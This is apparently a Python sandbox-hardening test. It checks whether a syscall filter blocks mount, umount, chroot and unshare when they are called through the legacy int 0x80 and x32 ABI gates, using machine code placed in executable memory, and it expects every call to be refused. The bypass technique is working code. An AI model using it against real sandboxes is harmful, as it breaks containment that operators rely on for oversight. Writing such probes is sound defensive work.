"""Calls the kernel through the gates of other architectures, which filters are known to forget.

What a call may do depends on who calls, not on the gate; and the filter guards every gate.

Outcome: failed | died: refused|its process
"""

import ctypes
import mmap
import platform

MOUNT, UMOUNT, CHROOT, UNSHARE = 21, 52, 61, 310
NEW_USER_NAMESPACE = 0x10000000


def span(values):
    if platform.machine() != "x86_64":
        return "refused"
    # push rbx; mov eax, edi; mov ebx, esi; xor ecx, ecx; mov edx, esi; int 0x80; pop rbx; ret
    code = bytes.fromhex("53 89f8 89f3 31c9 89f2 cd80 5b c3")
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    start = ctypes.addressof(ctypes.c_char.from_buffer(page))
    call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_uint, ctypes.c_uint)(start)
    calls = (MOUNT, UMOUNT, CHROOT, UNSHARE)
    granted = [number for number in calls if call(number, NEW_USER_NAMESPACE) >= 0]
    libc = ctypes.CDLL(None, use_errno=True)
    granted += [n for n in (165, 161, 272) if libc.syscall(n | 0x40000000, 0, 0, 0, 0) >= 0]
    return f"granted {granted}" if granted else "refused"
